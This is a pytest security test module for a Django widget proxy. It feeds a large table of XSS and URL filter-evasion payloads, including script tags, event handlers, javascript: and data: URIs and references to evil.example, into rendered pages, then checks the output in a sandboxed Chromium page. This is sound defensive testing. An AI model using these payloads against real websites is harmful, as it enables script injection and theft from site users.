"""Markup, scripts and odd addresses in every string that Sumeru or a shopper gives, read by Chromium's own parser.

The tables follow what OWASP's filter-evasion collection shows to work somewhere: broken tags, other elements, attributes that run,
addresses that run, ends of script and style elements, and characters that change direction.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.test import Client
from playwright.sync_api import Browser, Page

from sumeru_proxy.models import Shop
from sumeru_proxy.reading import reader
from sumeru_proxy.sandbox.catalogue import small_catalogue
from tests.upstream import upstream
from widgets import registry
from widgets.http import throttles

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(120)]

TEXTS = (
    "<script>hit(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>hit(2)</script>',
    "'><img src=x onerror=hit(3)>",
    "<img src=x onerror=hit(4)//",
    "<svg onload=hit(5)><use href=data:,x></svg>",
    "<svg><script>hit(6)</script></svg>",
    "<svg><a xlink:href=javascript:hit(7)><text>x</text></a></svg>",
    "<math><mtext></p><style><img src=x onerror=hit(8)></style>",
    "</script><script>hit(9)</script>",
    "</style><script>hit(10)</script>",
    "</template></sumeru-widget><script>hit(11)</script>",
    "</title></textarea></noscript><script>hit(12)</script>",
    "<!--<img src='--><img src=x onerror=hit(13)>'>",
    "<![CDATA[<script>hit(14)</script>]]>",
    "<iframe srcdoc='<script>parent.hit(15)</script>'></iframe>",
    "<iframe src=javascript:parent.hit(16)></iframe>",
    "<object data=javascript:hit(17)><embed src=javascript:hit(18)>",
    "<form action=javascript:hit(19)><button autofocus onfocus=hit(20)>x</button></form>",
    "<details open ontoggle=hit(21)>x</details>",
    "<input autofocus onfocus=hit(22)>",
    "<video><source onerror=hit(23)></video>",
    "<body onload=hit(24)><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(25)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{background:url(javascript:hit(26))}</style>",
    '" onmouseover="hit(27)" autofocus onfocus="hit(28)" x="',
    "' style='background:url(//evil.example/x)' x='",
    "` onmouseover=hit(29) x=`",
    " onmouseover=hit(30) ",
    "\u0000<script>hit(31)</script>",
    "<scr\u0000ipt>hit(32)</scr\u0000ipt>",
    "＜script＞hit(33)＜/script＞",
    "&lt;script&gt;hit(34)&lt;/script&gt;",
    "&#60;script&#62;hit(35)&#60;/script&#62;",
    "\\u003cscript\\u003ehit(36)\\u003c/script\\u003e",
    "%3Cscript%3Ehit(37)%3C/script%3E",
    "{{ 7|add:7 }}{% debug %}{{ request }}${hit(38)}",
    "\u202ehtml\u202c \u2066<b onclick=hit(39)>x</b>\u2069",
    "\u2028hit(40)\u2029",
    "javascript:hit(41)",
    "<a href=javascript:hit(42)>x</a><a href='data:text/html,<script>hit(43)</script>'>y</a>",
    "<xss style=animation-name:x onanimationstart=hit(44)></xss>",
    "<template shadowrootmode=open><script>hit(45)</script></template>",
)
ADDRESSES = (
    "javascript:hit(50)",
    "JaVaScRiPt:hit(51)",
    " javascript:hit(52)",
    "java\tscript:hit(53)",
    "java\nscript:hit(54)",
    "\x01javascript:hit(55)",
    "javascript&colon;hit(56)",
    "&#106;avascript:hit(57)",
    "data:text/html,<script>parent.hit(58)</script>",
    "data:image/svg+xml,<svg onload=hit(59)>",
    "vbscript:hit(60)",
    "view-source:https://shop.example/",
    "blob:https://shop.example/x",
    "file:///etc/passwd",
    'https://shop.example/" onclick="hit(61)',
    "https://shop.example/'><script>hit(62)</script>",
    "https://shop.example/#</script><script>hit(63)</script>",
    "//shop.example/x",
    "\\\\shop.example\\x",
    "https:javascript:hit(64)",
    "{handle}",
    "http://[::1",
)
ADDRESS_NAMES = {"url", "thumb_url", "share_url"}
UNTOUCHED = {
    *(
        "id",
        "domain",
        "public_key",
        "token",
        "tokens",
        "product_id",
        "product_ids",
        "variant_id",
        "if_product_ids",
        "created_at",
    ),
    *(
        "updated_at",
        "kind",
        "type",
        "currency",
        "price",
        "compare_at_price",
        "value",
        "threshold",
        "next",
        "points",
        "collections",
    ),
    *(
        "origins",
        "code",
        "claimed",
        "name_of_experiment",
        "discount",
        "amount",
        "customers",
        "orders",
        "locale",
        "country",
    ),
}
ALLOWED = """
a article aside b bdi blockquote body br button caption circle cite code dd defs details div dl dt em fieldset figcaption figure footer
form g h1 h2 h3 h4 head header hr html i img input label legend li linearGradient link main meta meter nav ol option output p path
picture polygon progress q rect s script section select slot small source span stop strong style sub sumeru-widget summary sup svg table
tbody td template textarea th thead time title tr ul video wbr
"""
ELEMENTS = frozenset(ALLOWED.split())
SCHEMES = {"http", "https", ""}

READ = """html => {
  const found = {elements: [], scripts: [], hits: window.hits || []}
  const walk = root => {
    for (const element of root.querySelectorAll('*')) {
      const attributes = [...element.attributes].map(each => [each.name, each.value])
      found.elements.push([element.localName, attributes])
      if (element.localName === 'script') found.scripts.push([element.type, element.getAttribute('src'), element.textContent])
      if (element.localName === 'template') walk(element.content)
    }
  }
  walk(new DOMParser().parseFromString(html, 'text/html'))
  return found
}"""
RUN = """html => {
  window.hits = []
  window.hit = number => window.hits.push(number)
  const frame = document.createElement('div')
  document.body.replaceChildren(frame)
  frame.setHTMLUnsafe ? frame.setHTMLUnsafe(html) : (frame.innerHTML = html)
  const roots = [frame, ...[...frame.querySelectorAll('*')].map(each => each.shadowRoot).filter(Boolean)]
  for (const root of roots)
    for (const element of root.querySelectorAll('*'))
      for (const type of ['click', 'mouseover', 'focus', 'toggle', 'error', 'load', 'animationstart'])
        if (type !== 'click' || element.localName !== 'a') element.dispatchEvent(new Event(type, {bubbles: true, cancelable: true}))
  return new Promise(done => setTimeout(() => done(window.hits), 50))
}"""


@pytest.fixture(scope="module")
def chromium(browser: Browser) -> Iterator[Page]:
    """A page without network: whatever markup asks for is refused, and noted."""
    page = browser.new_page()
    page.route(
        "**/*",
        lambda route: (
            route.abort() if route.request.resource_type != "document" else route.fulfill(body="<body></body>")
        ),
    )
    page.goto("https://shop.example/")
    yield page
    page.close()


def poisoned(value: Any, bad: Callable[[str], str | None], key: str = "") -> Any:
    """The catalogue with every text replaced for which ``bad(name)`` gives another."""
    if isinstance(value, dict):
        return {name: each if name in UNTOUCHED else poisoned(each, bad, name) for name, each in value.items()}
    if isinstance(value, list):
        return [poisoned(each, bad, key) for each in value]
    return replaced if isinstance(value, str) and (replaced := bad(key)) is not None else value


def answers(client: Client, shop: Shop, text: str) -> Iterator[tuple[str, str, Any]]:
    """Widget, form and answer: of every widget in every form, and as shoppers' own words come back."""
    for name, widget in sorted(registry.all_widgets().items()):
        query = {key: value.replace("{product}", "prd_1") for key, value in widget.example.items()}
        own = {
            key: text
            for key in ("query", "locale", "placement", "code", "customer_token")
            if key in widget.Params().fields
        }
        for form, asked in (
            (".json", query),
            ("", query),
            (".html", query),
            (".html", {**query, **own}),
            ("", {**query, **own}),
        ):
            throttles.reads, throttles.guesses = throttles.Meter(), throttles.Meter()
            response = client.get(f"/w/v1/{shop.key}/{name}{form}?{urlencode(asked, errors='replace')}")
            assert response.status_code < 500, (name, form, text)
            yield name, form, response


PAGE = "{base}w/v1/shop/widget"
"""Where a widget's page is, to which its own parts are relative."""


def check(found: dict[str, Any], where: str, base: str) -> None:
    """Only known elements, nothing that runs, addresses of the web only, and scripts that are data or ours."""
    for element, attributes in found["elements"]:
        assert element in ELEMENTS, (where, element)
        for name, value in attributes:
            assert not name.startswith("on"), (where, element, name)
            assert name not in ("style", "srcdoc", "formaction", "xlink:href", "background", "action-xhr"), (
                where,
                element,
                name,
            )
            if name in ("href", "src", "action", "poster", "srcset", "data", "cite"):
                assert urlsplit(value.strip()).scheme in SCHEMES, (where, element, name, value)
                assert "javascript:" not in "".join(value.split()).lower()[:20], (where, value)
                if element in ("script", "link"):
                    assert urljoin(PAGE.format(base=base), value).startswith(base), (where, element, value)
    for kind, source, text in found["scripts"]:
        if kind == "application/ld+json":
            assert "<" not in text, where
            json.loads(text)
        else:
            assert urljoin(PAGE.format(base=base), source).startswith(base), (where, source)
            assert not text.strip(), (where, text)


def html_of(form: str, response: Any) -> str:
    if form == ".json" and response["Content-Type"].startswith("application/json"):
        return str(json.loads(response.content).get("html") or "")
    return str(response.content.decode()) if response["Content-Type"].startswith("text/html") else ""


def look(
    chromium: Page, client: Client, make_shop: Callable[..., Shop], bad: Callable[[str], str | None], text: str
) -> int:
    catalogue = small_catalogue()
    for shop in catalogue["shops"]:
        shop["reviews"] = shop["reviews"][:12]
        for part in (
            "products",
            "reviews",
            "bundles",
            "upsell_rules",
            "quizzes",
            "nudges",
            "referral",
            "experiments",
            "collections",
        ):
            if part != "experiments":
                shop[part] = poisoned(shop[part], bad)
    with upstream(catalogue, limits={"public_reads_per_ip": 100_000, "writes_per_ip": 10_000}) as sandbox:
        shop = make_shop(sandbox.url, storefront_url="https://shop.example/", **sandbox.account())
        Shop.objects.filter(pk=shop.pk).update(limits={"public_reads_per_ip": 100_000, "writes_per_ip": 10_000})
        reader.copies.forget()
        ready = 0
        pieces: dict[str, list[str]] = {}
        for name, form, response in answers(client, shop, text):
            if form == ".json" and response.status_code == 200:
                ready += json.loads(response.content)["state"] == "ready"
            pieces.setdefault(form, []).append(html_of(form, response))
            assert "\x00" not in response.content.decode()
            if form == "":
                check(chromium.evaluate(READ, html_of(form, response)), f"{name}{form} {text!r}", "http://testserver/")
        for form in (".json", ".html"):
            html = "".join(pieces[form])
            found = chromium.evaluate(READ, html)
            check(found, f"{form} {text!r}", "http://testserver/")
            hits = chromium.evaluate(RUN, html)
            assert hits == [], (form, text, hits)
    return ready


def chunks(texts: tuple[str, ...], size: int) -> list[tuple[str, ...]]:
    return [texts[start : start + size] for start in range(0, len(texts), size)]


@pytest.mark.parametrize("texts", chunks(TEXTS, 4), ids=lambda each: str(TEXTS.index(each[0])))
def test_texts_stay_texts(
    texts: tuple[str, ...], chromium: Page, client: Client, make_shop: Callable[..., Shop]
) -> None:
    turns = iter(range(10_000))

    def bad(name: str) -> str | None:
        return None if name in ADDRESS_NAMES or name == "handle" else texts[next(turns) % len(texts)]

    assert look(chromium, client, make_shop, bad, texts[0]) >= 5


@pytest.mark.parametrize("urls", chunks(ADDRESSES, 4), ids=lambda each: str(ADDRESSES.index(each[0])))
def test_addresses_are_of_the_web_or_gone(
    urls: tuple[str, ...], chromium: Page, client: Client, make_shop: Callable[..., Shop]
) -> None:
    turns = iter(range(10_000))

    def bad(name: str) -> str | None:
        return urls[next(turns) % len(urls)] if name in ADDRESS_NAMES or name == "handle" else None

    assert look(chromium, client, make_shop, bad, urls[0]) >= 5


def test_the_reading_sees_what_runs(chromium: Page) -> None:
    """The instrument itself: markup that is not escaped is seen to run."""
    assert chromium.evaluate(RUN, "<img src=x onerror=hit(3)>") != []
    with pytest.raises(AssertionError):
        check(chromium.evaluate(READ, "<p onclick=hit(1)>x</p>"), "", "http://testserver/")
    with pytest.raises(AssertionError):
        check(chromium.evaluate(READ, "<a href='java\nscript:hit(1)'>x</a>"), "", "http://testserver/")
    with pytest.raises(AssertionError):
        check(chromium.evaluate(READ, '<script type="application/ld+json">"<"</script>'), "", "http://testserver/")
